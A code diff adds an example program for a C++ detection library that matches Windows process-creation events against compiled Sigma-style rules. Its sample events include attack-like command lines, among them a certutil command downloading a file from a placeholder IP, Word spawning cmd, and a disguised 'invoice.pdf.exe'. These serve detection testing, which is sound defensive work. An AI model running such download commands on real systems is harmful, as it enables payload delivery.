@@ -1,0 +1,44 @@
+// SPDX-License-Identifier: BSL-1.0
+
+// Rules that were YAML when the program was built, and are C++ types now: see CMakeLists.txt beside this.
+#include "process_rules.hpp"
+
+#include <varsigma/event/event_traits.hpp>
+
+#include <iostream>
+#include <string>
+
+struct process_event {
+    std::string image, parent_image, command_line, original_file_name, user;
+};
+
+template <>
+struct varsigma::event_traits<process_event> {
+    static constexpr varsigma::logsource source{.product = "windows", .category = "process_creation"};
+    static constexpr auto fields = varsigma::fields(
+        varsigma::field<"Image", &process_event::image>, varsigma::field<"ParentImage", &process_event::parent_image>,
+        varsigma::field<"CommandLine", &process_event::command_line>,
+        varsigma::field<"OriginalFileName", &process_event::original_file_name>,
+        varsigma::field<"User", &process_event::user>);
+};
+
+// NOLINTNEXTLINE(bugprone-exception-escape): only for want of memory
+int main() {
+    for (const auto& finding : process_rules::rules::warm_up()) { std::cerr << render(finding) << '\n'; }
+    const process_event events[] = {
+        {R"(C:\Windows\System32\cmd.exe)", R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)",
+         "cmd /c whoami", "Cmd.Exe", "bob"},
+        {R"(C:\Users\bob\Downloads\invoice.pdf.exe)", R"(C:\Windows\explorer.exe)", "invoice.pdf.exe", "tool.exe",
+         "bob"},
+        {R"(C:\Windows\System32\certutil.exe)", R"(C:\Windows\System32\cmd.exe)",
+         "certutil /urlcache /f http://192.0.2.44/tool.txt tool.exe", "CertUtil.exe", "carol"},
+        {R"(C:\Windows\System32\notepad.exe)", R"(C:\Windows\explorer.exe)", "notepad.exe notes.txt", "NOTEPAD.EXE",
+         "alice"},
+    };
+    for (const auto& event : events) {
+        std::cout << event.command_line << '\n';
+        for (const auto& hit : process_rules::rules::match(event)) {
+            std::cout << "  " << name(hit.level()) << ": " << hit.title() << '\n';
+        }
+    }
+}
